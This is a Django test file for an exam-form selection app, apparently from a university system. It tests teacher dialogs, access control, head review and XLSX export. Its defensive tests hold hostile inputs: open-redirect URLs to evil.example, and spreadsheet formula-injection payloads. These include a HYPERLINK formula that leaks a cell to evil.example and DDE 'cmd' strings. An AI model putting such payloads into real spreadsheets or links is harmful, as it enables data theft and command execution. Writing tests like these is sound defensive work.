"""The teacher's page and dialog, the head's review page and the export, over HTTP."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

from emtihan.examforms import services
from emtihan.examforms.models import ChoiceStatus, ExamFormChoice
from emtihan.examforms.services import ChoiceInput, choice_approve, choice_save


def edit_url(world, discipline=None, group=None):
    return reverse(
        "examforms:choice_edit", args=[(discipline or world.algebra).pk, (group or world.g1).pk]
    )


def test_the_teacher_sees_their_groups_and_disciplines(client, world):
    client.force_login(world.teacher)
    response = client.get(reverse("examforms:teacher_list"))
    assert response.status_code == 200
    body = response.content.decode()
    for code in ("ALG", "PHY", "IS-2301", "IS-2302"):
        assert code in body
    assert "ANAT1" not in body
    assert "Final-exam programme – mandatory for every form" in body


@pytest.mark.parametrize("persona", ["student", "outsider", "head"])
def test_others_cannot_open_the_teacher_page(client, world, persona):
    client.force_login(getattr(world, persona))
    assert client.get(reverse("examforms:teacher_list")).status_code == 403


def test_anonymous_is_sent_to_login(client, world):
    response = client.get(reverse("examforms:teacher_list"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_dialog_offers_only_what_the_table_allows(client, world, programmes):
    client.force_login(world.teacher)
    body = client.get(edit_url(world)).content.decode()
    assert 'value="STARTEXAM"' not in body  # not a medical discipline
    assert 'value="OQYLYQ"' in body
    fields = client.get(
        edit_url(world), {"fields": 1, "platform": "MOODLE", "form": "WRITTEN"}
    ).content.decode()
    for t in ("PROJECT", "CASE", "ESSAY", "CREATIVE"):
        assert f'value="{t}"' in fields
    assert 'value="TRADITIONAL"' not in fields
    assert "Moodle LMS: written, testing, mixed" in fields  # the platform's instructions
    oral = client.get(
        edit_url(world), {"fields": 1, "platform": "UNIVER", "form": "ORAL"}
    ).content.decode()
    assert "have none" in oral and "video-conference" in oral


def test_the_dialog_for_medicine_offers_startexam(client, world, programmes):
    client.force_login(world.other_teacher)
    body = client.get(edit_url(world, world.anatomy, world.med_group)).content.decode()
    assert 'value="STARTEXAM"' in body


def test_the_dialog_shows_facts_and_lists_only_this_disciplines_programmes(
    client, world, programmes
):
    client.force_login(world.teacher)
    body = client.get(edit_url(world)).content.decode()
    assert "IS-2301" in body and "Full-time" in body
    assert f'value="{programmes["algebra"].pk}"' in body
    assert f'value="{programmes["physics"].pk}"' not in body


def test_the_dialog_links_to_the_upload_when_no_programme_exists(client, world):
    client.force_login(world.teacher)
    body = client.get(edit_url(world)).content.decode()
    assert "data-no-programme" in body
    assert reverse("umkd:discipline_materials", args=[world.algebra.pk]) in body


def test_send_for_review_saves_and_returns_the_updated_list(client, world, programmes):
    client.force_login(world.teacher)
    response = client.post(
        edit_url(world),
        {
            "platform": "UNIVER",
            "form": "ORAL",
            "additional_info": "Zoom",
            "programme": programmes["algebra"].pk,
        },
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    assert response["HX-Trigger"] == "emtihan:close-dialog"
    assert (
        'id="choice-table" data-selectable="row-toolbar" hx-swap-oob="true"'
        in response.content.decode()
    )
    choice = ExamFormChoice.objects.get()
    assert (choice.status, choice.form, choice.additional_info) == ("submitted", "ORAL", "Zoom")


def test_a_forged_request_gets_a_clear_error_per_field(client, world, programmes):
    client.force_login(world.teacher)
    response = client.post(
        edit_url(world),
        {"platform": "STARTEXAM", "form": "TESTING", "exam_type": "ESSAY", "additional_info": "x", "programme": programmes["physics"].pk},
    )  # fmt: skip
    body = response.content.decode()
    assert services.ERR_MEDICAL_ONLY in body
    assert escape(services.ERR_PROGRAMME_WRONG) in body
    assert not ExamFormChoice.objects.exists()


def test_a_teacher_cannot_open_or_post_for_a_discipline_they_do_not_teach(
    client, world, programmes
):
    client.force_login(world.teacher)
    url = edit_url(world, world.anatomy, world.med_group)
    assert client.get(url).status_code == 403
    assert (
        client.post(
            url, {"platform": "STARTEXAM", "form": "TESTING", "programme": programmes["anatomy"].pk}
        ).status_code
        == 403
    )
    assert not ExamFormChoice.objects.exists()


def test_an_approved_choice_shows_read_only_and_refuses_posts(client, world, programmes):
    choice = choice_save(actor=world.teacher, discipline=world.algebra, group=world.g1,
                         data=ChoiceInput(platform="UNIVER", form="TESTING", programme_id=programmes["algebra"].pk))  # fmt: skip
    choice_approve(actor=world.head, choice_id=choice.pk, expected_revision=1)
    client.force_login(world.teacher)
    body = client.get(edit_url(world)).content.decode()
    assert "can no longer be changed" in body and "Send for review" not in body
    response = client.post(edit_url(world), {"platform": "UNIVER", "form": "WRITTEN", "exam_type": "TRADITIONAL",
                                             "programme": programmes["algebra"].pk, "revision": 1})  # fmt: skip
    assert services.ERR_NOT_EDITABLE in response.content.decode()
    assert ExamFormChoice.objects.get().form == "TESTING"


@pytest.fixture
def submitted(world, programmes):
    return choice_save(actor=world.teacher, discipline=world.algebra, group=world.g1,
                       data=ChoiceInput(platform="UNIVER", form="TESTING", programme_id=programmes["algebra"].pk))  # fmt: skip


def test_the_head_reviews_and_filters(client, world, submitted):
    client.force_login(world.head)
    body = client.get(reverse("examforms:review")).content.decode()
    assert "ALG" in body and "PHY" in body and "ANAT1" not in body
    submitted_only = client.get(
        reverse("examforms:review"), {"status": "submitted"}
    ).content.decode()
    assert f'value="{submitted.pk}:1"' in submitted_only and "PHY" not in submitted_only


def test_the_head_returns_with_a_comment_then_approves(client, world, submitted, programmes):
    client.force_login(world.head)
    url = reverse("examforms:review_choice", args=[submitted.pk])
    missing = client.post(url, {"action": "return", "revision": 1, "comment": ""})
    assert services.ERR_COMMENT_REQUIRED in missing.content.decode()
    done = client.post(url, {"action": "return", "revision": 1, "comment": "Pick the oral exam"})
    assert done["HX-Refresh"] == "true"
    assert ExamFormChoice.objects.get().status == ChoiceStatus.RETURNED
    client.force_login(world.teacher)
    body = client.get(reverse("examforms:teacher_list")).content.decode()
    assert "Pick the oral exam" in body


def test_another_head_gets_403(client, world, submitted):
    client.force_login(world.other_head)
    url = reverse("examforms:review_choice", args=[submitted.pk])
    assert client.get(url).status_code == 403
    assert client.post(url, {"action": "approve", "revision": 1}).status_code == 403
    assert ExamFormChoice.objects.get().status == ChoiceStatus.SUBMITTED


def test_bulk_approve_from_the_review_page(client, world, submitted):
    client.force_login(world.head)
    response = client.post(
        reverse("examforms:review_bulk"), {"selected": [f"{submitted.pk}:1"], "decision": "approve"}
    )
    assert response.status_code == 302
    assert ExamFormChoice.objects.get().status == ChoiceStatus.APPROVED


@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        ("/exam-forms/review/?status=submitted", "/exam-forms/review/?status=submitted"),
        ("https://evil.example/phish", "/exam-forms/review/"),
        ("//evil.example/phish", "/exam-forms/review/"),
        ("http://testserver.evil.example/", "/exam-forms/review/"),
        ("", "/exam-forms/review/"),
    ],
)
def test_bulk_review_goes_back_only_into_this_site(client, world, submitted, sent, expected):
    client.force_login(world.head)
    response = client.post(
        reverse("examforms:review_bulk"),
        {"selected": [f"{submitted.pk}:1"], "decision": "approve", "next": sent},
    )
    assert response.status_code == 302
    assert response["Location"] == expected


def test_the_registrar_exports_a_faculty_as_xlsx(client, world, submitted):
    client.force_login(world.registrar)
    response = client.get(reverse("examforms:export"), {"scope": f"faculty:{world.it_faculty.pk}"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][2] == "Discipline code"
    by_key = {(r[2], r[4]): r for r in rows[1:]}
    assert set(by_key) == {("ALG", "IS-2301"), ("PHY", "IS-2301"), ("ALG", "IS-2302")}
    assert by_key[("ALG", "IS-2301")][13] == "Sent for review"
    assert by_key[("PHY", "IS-2301")][13] == "Not chosen"


INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
]


def test_the_export_writes_what_people_typed_as_text_never_as_a_formula(
    client, world, submitted, programmes
):
    """Formula injection: text from teachers, heads and the registry stays text."""
    comment, file_name, teacher, discipline, period, group, code = INJECTIONS
    ExamFormChoice.objects.filter(pk=submitted.pk).update(head_comment=comment)
    programme = programmes["algebra"]
    type(programme).objects.filter(pk=programme.pk).update(original_name=file_name)
    world.teacher.full_name = teacher
    world.teacher.save()
    world.algebra.name_en = world.algebra.name_kk = discipline
    world.algebra.save()
    world.period.title_kk = world.period.title_ru = world.period.title_en = period
    world.period.save()
    world.g2.code = group
    world.g2.save()
    world.physics.code = code
    world.physics.save()
    client.force_login(world.registrar)
    response = client.get(reverse("examforms:export"), {"scope": "all"})
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # word for word, as typed (XML reads a carriage return back as a line feed)
    assert {text.replace("\r", "\n") for text in INJECTIONS} <= texts
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.quotePrefix, cell.coordinate
    plain = next(c for c in cells if c.value == "Sent for review")
    assert not plain.quotePrefix


def test_a_head_exports_only_their_departments(client, world, submitted):
    client.force_login(world.head)
    assert (
        client.get(
            reverse("examforms:export"), {"scope": f"department:{world.math.pk}"}
        ).status_code
        == 200
    )
    assert (
        client.get(
            reverse("examforms:export"), {"scope": f"department:{world.anat.pk}"}
        ).status_code
        == 403
    )
    assert client.get(reverse("examforms:export"), {"scope": "all"}).status_code == 403
    client.force_login(world.teacher)
    assert client.get(reverse("examforms:export")).status_code == 403


def test_the_menu_offers_export_to_heads_and_the_registrar_only(client, world):
    """The menu entry and the page agree: whoever sees "Export" can open it."""
    url = reverse("examforms:export")
    for persona, offered in [
        ("head", True), ("registrar", True), ("teacher", False), ("student", False),
        ("outsider", False),
    ]:  # fmt: skip
        client.force_login(getattr(world, persona))
        home = client.get(reverse("home"), follow=True).content.decode()
        assert (f'href="{url}"' in home) is offered, persona
        assert (client.get(url).status_code == 200) is offered, persona


def test_a_head_who_heads_no_department_yet_is_told_so(client, world):
    world.math.head = world.phys.head = None
    world.math.save()
    world.phys.save()
    client.force_login(world.head)
    page = client.get(reverse("examforms:export")).content.decode()
    assert "You head no department in the registry yet" in page
    assert "Download XLSX" not in page


def test_a_forged_combination_is_not_silently_corrected(client, world, programmes):
    """OQYLYQ has one form (WRITTEN); a forged TESTING must be refused, not replaced."""
    client.force_login(world.teacher)
    response = client.post(
        edit_url(world),
        {"platform": "OQYLYQ", "form": "TESTING", "programme": programmes["algebra"].pk},
    )
    assert services.ERR_FORM_NOT_ALLOWED in response.content.decode()
    assert not ExamFormChoice.objects.exists()
